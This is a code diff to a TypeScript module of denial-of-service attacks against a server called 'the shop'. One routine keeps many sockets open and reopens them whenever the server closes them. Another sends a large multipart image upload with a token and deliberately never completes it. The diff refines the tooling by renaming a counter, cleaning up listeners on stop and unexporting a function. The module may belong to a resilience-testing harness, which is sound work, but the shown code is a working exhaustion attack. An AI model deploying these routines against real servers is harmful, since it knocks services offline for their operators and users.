@@ -8,7 +8,7 @@ type Holding = { address: string; count: number; open: (socket: Socket) => void 
 /** Holds so many sockets open and opens those again that the shop closes. */
 function hold({ port }: Target, { address, count, open }: Holding): Hostile {
   let opened = 0;
-  let wereRefused = 0;
+  let closedByShop = 0;
   const sockets = new Set<Socket>();
   const fill = () => {
     while (sockets.size < count) {
@@ -19,7 +19,7 @@ function hold({ port }: Target, { address, count, open }: Holding): Hostile {
       socket.on('error', () => {});
       socket.on('close', () => {
         sockets.delete(socket);
-        wereRefused++;
+        closedByShop++;
       });
     }
   };
@@ -28,9 +28,9 @@ function hold({ port }: Target, { address, count, open }: Holding): Hostile {
   return {
     stop: async () => {
       clearInterval(again);
-      for (const socket of sockets) socket.destroy();
+      for (const socket of sockets) socket.removeAllListeners('close').destroy();
     },
-    said: () => `${opened} sockets, ${wereRefused} closed by the shop`,
+    said: () => `${opened} sockets, ${closedByShop} closed by the shop`,
   };
 }
 
@@ -65,7 +65,7 @@ export const neverReading: Attack = {
 const UPLOAD_BYTES = 10 * 1024 * 1024;
 
 /** Of everything but its last bytes; the form never ends. */
-export function withheldUpload(path: string, token: string): (socket: Socket) => void {
+function withheldUpload(path: string, token: string): (socket: Socket) => void {
   const head = [
     ...['--x', 'Content-Disposition: form-data; name="image"; filename="a.jpg"', 'Content-Type: image/jpeg'],
     '\r\n',
